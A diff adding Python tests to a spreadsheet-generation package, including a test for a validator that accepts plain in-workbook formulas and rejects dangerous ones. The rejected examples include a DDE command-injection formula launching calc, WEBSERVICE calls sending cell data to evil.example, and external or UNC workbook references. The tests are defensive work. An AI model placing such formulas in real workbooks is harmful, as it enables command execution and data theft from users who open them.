@@ -16,6 +16,7 @@ from bulkgen.model import Cell, Table
 from bulkgen.result_columns import ResultColumn
 from bulkgen.results import paint, source_book
 from bulkgen.results.book import ResultsBook
+from bulkgen.results.harmless import is_harmless
 from bulkgen.results.other_sheets import beyond_cells, find_others
 from bulkgen.results.paint import COLOURS, HEADER
 from bulkgen.results.summary import Cause, Summary
@@ -350,6 +351,44 @@ def test_what_stands_beside_the_lines_is_known_again_and_what_a_person_changed_t
     book.save(path)
     others = find_others(path, "Leads", 4, made.others, unchanged=False)
     assert (others.carried, others.above) == (("Summary", "Mine"), True)
+
+
+def test_a_drawing_on_which_there_is_nothing_is_none(tmp_path: Path) -> None:
+    source, table = given("titles", tmp_path)
+    _, path = written(results_of(table), source, tmp_path)
+    for drawing, told in ((b"<xdr:wsDr/>", ""), (b"<xdr:oneCellAnchor/>", "pictures, drawings or charts")):
+        with zipfile.ZipFile(path, "a") as archive:
+            archive.writestr(f"xl/drawings/drawing{len(drawing)}.xml", drawing)
+        assert beyond_cells(path, "Leads") == told
+
+
+@pytest.mark.parametrize(
+    ("formula", "harmless"),
+    [
+        ("$C2>100", True),
+        ('AND(LEN(A2)>3,COUNTIF($A$2:$A$9,A2)=1,B2="x")', True),
+        ("Lists!$A$1:$A$9", True),
+        ("'Lists'!A:A", True),
+        ("Names", True),
+        ('"a,b,c"', True),
+        ("100", True),
+        ("Other!A1", False),
+        ("[1]Lists!A1", False),
+        ("'[evil.xlsx]Lists'!$A$1", False),
+        ("'\\\\evil\\[x.xlsx]Lists'!A1", False),
+        ("cmd|'/c calc'!A0", False),
+        ('HYPERLINK("https://evil.example")', False),
+        ('WEBSERVICE("https://evil.example?"&A1)', False),
+        ('INDIRECT("[evil.xlsx]a!A1")', False),
+        ("_xlfn.WEBSERVICE(A1)", False),
+        ("CALL(1)", False),
+        ("IF(A1,CALL(1),2)", False),
+        ("Stranger", False),
+        ('"unclosed', False),
+    ],
+)
+def test_a_rule_may_look_at_cells_of_the_workbook_and_nothing_else(formula: str, harmless: bool) -> None:
+    assert is_harmless(formula, {"Lists", "Leads"}, ["Names"]) is harmless
 
 
 def test_five_thousand_rows_take_seconds_and_each_cell_is_visited_once(tmp_path: Path) -> None:
